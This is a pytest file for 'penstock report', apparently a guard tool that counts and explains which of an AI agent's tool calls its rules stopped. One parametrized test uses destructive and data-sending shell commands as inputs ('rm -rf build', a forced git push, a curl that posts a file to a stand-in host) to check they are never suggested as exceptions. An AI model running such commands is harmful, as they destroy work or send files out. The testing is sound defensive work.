"""`penstock report`: what was stopped, how often, and rules that would help."""

from __future__ import annotations

import pytest

from tests.doors.hook.hooks import Hook
from tests.project import Project

RULES = """\
preset = "guard"
[[ask]]
id = "deploy"
paths = ["deploy/**"]
[[deny]]
id = "old"
paths = ["old/**"]
[[ask]]
id = "lint"
tool = "Bash"
command_regex = "^npm run lint"
"""


@pytest.fixture
def hook(project: Project) -> Hook:
    project.write("penstock.toml", RULES)
    return Hook(project)


def calls(hook: Hook) -> None:
    for number in range(3):
        hook.write(f"deploy/{number}.yml", "x\n", f"toolu_d{number}")
        hook.before("Bash", {"command": f"npm run lint -- src/{number}.js"}, f"toolu_l{number}")
    hook.write("old/a.py", "x\n", "toolu_old")
    hook.write("free.txt", "x\n", "toolu_free")
    for number in range(3):
        hook.write("penstock.toml", "x\n", f"toolu_p{number}")


def test_what_was_stopped_is_counted_by_rule_and_by_kind(hook: Hook) -> None:
    calls(hook)
    found = hook.project.run("report", "--json").json
    by_rule = {one["name"]: (one["asked"], one["denied"]) for one in found["by_rule"]}
    assert by_rule == {"deploy": (3, 0), "lint": (0, 3), "old": (0, 1), "penstock-self": (0, 3)}
    assert (found["calls"], found["asked"], found["denied"]) == (11, 3, 7)
    assert found["share_stopped"] == pytest.approx(10 / 11, abs=1e-3)
    kinds = {one["name"] for one in found["by_kind"]}
    assert {"Write: deploy/*.yml", "Bash: npm run lint"} <= kinds
    shown = hook.project.run("report").out
    assert "11 calls in the last 7 days" in shown


def test_the_edits_that_would_calm_it_are_exact_commands(hook: Hook) -> None:
    calls(hook)
    edits = {one["command"] for one in hook.project.run("report", "--json").json["edits"]}
    assert edits == {
        "penstock rules add --except deploy --path 'deploy/*.yml'",
        "penstock rules add --except lint --command 'npm run lint'",
    }, "once is too little, and Penstock's own protection stays"


def test_what_a_person_rejected_is_counted_and_not_offered(hook: Hook) -> None:
    calls(hook)
    pending = hook.project.run("proposals", "--json").json["proposals"]
    assert hook.project.run("reject", pending[0]["id"], "--reason", "no").code == 0
    found = hook.project.run("report", "--json").json
    assert found["answers"] == {"approved": 0, "rejected": 1}
    assert not [one for one in found["edits"] if "deploy" in one["command"]]


def test_in_observe_mode_it_says_what_would_have_been(hook: Hook) -> None:
    hook.project.write("penstock.toml", f"observe = true\n{RULES}")
    calls(hook)
    found = hook.project.run("report", "--json").json
    assert (found["observe"], found["observed"]) == (True, 7)
    assert (found["asked"], found["denied"]) == (6, 4)
    assert len(found["edits"]) == 2
    assert "; 7 of these were not stopped (observe mode)" in hook.project.run("report").out


def test_a_span_limits_it_and_nothing_is_an_answer_too(project: Project) -> None:
    empty = project.run("report", "--since", "1h")
    assert (empty.code, "no calls in the last " in empty.out) == (0, True)
    assert project.run("report", "--since", "soon").code == 64


@pytest.mark.parametrize("command", ["rm -rf build", "git push --force", "curl -d @x example.test"])
def test_what_is_never_harmless_is_never_offered(hook: Hook, command: str) -> None:
    hook.project.write("penstock.toml", '[[ask]]\nid = "all"\ntool = "Bash"\ncommand_regex = "."\n')
    for number in range(4):
        hook.before("Bash", {"command": command}, f"toolu_{number}")
    found = hook.project.run("report", "--json").json
    assert (found["denied"], found["edits"]) == (4, [])
